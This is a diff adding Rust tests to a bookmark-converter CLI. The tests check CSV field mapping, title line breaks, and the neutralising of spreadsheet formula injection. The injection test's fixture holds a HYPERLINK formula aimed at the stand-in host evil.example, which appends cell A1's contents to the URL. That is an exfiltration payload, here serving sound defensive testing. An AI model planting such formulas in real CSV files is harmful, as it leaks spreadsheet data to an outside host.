@@ -219,3 +219,83 @@ fn a_broken_csv_is_exit_2_with_file_line_and_column() {
         ));
     assert!(!out.exists(), "nothing half-written");
 }
+
+#[test]
+fn to_csv_guards_every_cell_and_says_so() {
+    let dir = tempfile::tempdir().unwrap();
+    // The issue's shape: an extra column, its header name and a `created`
+    // kept as written, each a formula.
+    let csv = write(
+        dir.path(),
+        "evil.csv",
+        "url,title,created,=1+1\n\
+         https://a/,A,=1+1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\n",
+    );
+    let out = markport()
+        .args(["convert", "--to", "csv"])
+        .arg(&csv)
+        .assert()
+        .success()
+        .stderr(predicate::str::contains("csv -> csv: nothing lost"))
+        .stderr(predicate::str::contains(
+            "csv -> csv: 2 field(s) written but not kept where the bookmarks go",
+        ))
+        .get_output()
+        .stdout
+        .clone();
+    let text = String::from_utf8(out).unwrap();
+    assert_eq!(
+        text,
+        "url,title,description,tags,folder,created,private,toread,'=1+1\n\
+         https://a/,A,,,,'=1+1,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\n"
+    );
+}
+
+#[test]
+fn csv_map_takes_one_column_for_two_fields_and_refuses_a_field_twice() {
+    let dir = tempfile::tempdir().unwrap();
+    let csv = write(dir.path(), "names.csv", "Name,Other\nhttps://a/,x\n");
+    let out = markport()
+        .args(["convert", "--from", "csv", "--to", "urls"])
+        .args(["--csv-map", "url=Name,title=Name"])
+        .arg(&csv)
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+    assert_eq!(out, b"https://a/ https://a/\n");
+    markport()
+        .args(["convert", "--from", "csv", "--to", "urls"])
+        .args(["--csv-map", "url=Name,url=Other"])
+        .arg(&csv)
+        .assert()
+        .code(2)
+        .stderr(predicate::str::contains(
+            "--csv-map maps the field url twice (url=Name and url=Other)",
+        ));
+}
+
+#[test]
+fn to_urls_writes_a_title_with_a_line_break_on_its_line_and_names_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let xbel = write(
+        dir.path(),
+        "in.xbel",
+        r#"<?xml version="1.0"?>
+<xbel version="1.0"><bookmark href="https://a/"><title>two&#10;lines</title></bookmark>
+<bookmark href="https://b/"><title>B</title></bookmark></xbel>"#,
+    );
+    let out = markport()
+        .arg("convert")
+        .arg(&xbel)
+        .args(["--to", "urls"])
+        .assert()
+        .success()
+        .stderr(predicate::str::contains("lost bookmark.title on 1 node"))
+        .stderr(predicate::str::contains("lost bookmark on").not())
+        .get_output()
+        .stdout
+        .clone();
+    assert_eq!(out, b"https://a/ two lines\nhttps://b/ B\n");
+}
